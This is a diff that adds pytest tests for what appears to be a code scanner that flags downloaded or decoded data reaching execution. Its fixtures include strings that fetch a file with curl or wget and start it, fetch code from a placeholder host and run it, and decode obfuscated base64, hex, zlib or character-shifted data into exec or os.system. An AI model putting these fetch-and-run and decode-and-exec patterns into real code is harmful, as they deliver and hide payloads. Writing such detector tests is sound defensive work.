@@ -1024,3 +1024,44 @@ def test_nothing_of_a_program_is_left_for_the_garbage_collector() -> None:
     finally:
         gc.enable()
     assert left < 50
+
+
+@pytest.mark.parametrize("program", ["curl", "/usr/bin/wget"])
+def test_a_file_that_a_program_downloads_and_that_is_started_is_fetched_code(program: str) -> None:
+    download = f"import subprocess\nsubprocess.run(['{program}', where, '-O', '/tmp/theme.css'])\n"
+    assert rules(f"{download}subprocess.Popen(['/tmp/theme.css'])\n") == {"taint_fetched_to_exec"}
+    assert rules(f"{download}subprocess.Popen(['xdg-open', 'page.html'])\n") == set()
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "exec(''.join(chr(ord(c) - 9) for c in open('moods.txt').read()))",
+        "exec(bytes(map(ord, open('moods.txt').read())))",
+        "import subprocess, sys\nsubprocess.run([sys.executable, '-c', bytes.fromhex(seed).decode()])",
+        "import os, base64\nos.system(base64.b64decode(seed).decode())",
+        "import runpy, zlib\nopen('/tmp/n.py', 'wb').write(zlib.decompress(seed))\nrunpy.run_path('/tmp/n.py')",
+    ],
+    ids=["letters", "bytes", "an argument", "a command", "a file"],
+)
+def test_code_made_of_data_is_unpacked(text: str) -> None:
+    assert "taint_unpacked_to_exec" in rules(text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "exec(open('version.py').read())",
+        "exec(bytes([104, 105]))",
+        "import subprocess, zlib\nopen('a', 'wb').write(zlib.decompress(seed))\nsubprocess.run(['jq', '.', 'a'])",
+    ],
+    ids=["as it is", "no file", "read by another program"],
+)
+def test_content_that_is_not_decoded_or_not_run_is_not_unpacked(text: str) -> None:
+    assert "taint_unpacked_to_exec" not in rules(text)
+
+
+def test_a_file_beside_another_is_known_by_its_name() -> None:
+    put = "import pathlib, requests\nme = pathlib.Path(__file__)\n"
+    put += "me.with_name('pick.py').write_text(requests.get('https://get.example/p').text)\n"
+    assert "taint_fetched_to_exec" in rules(put + "import runpy\nrunpy.run_path('pick.py')\n")
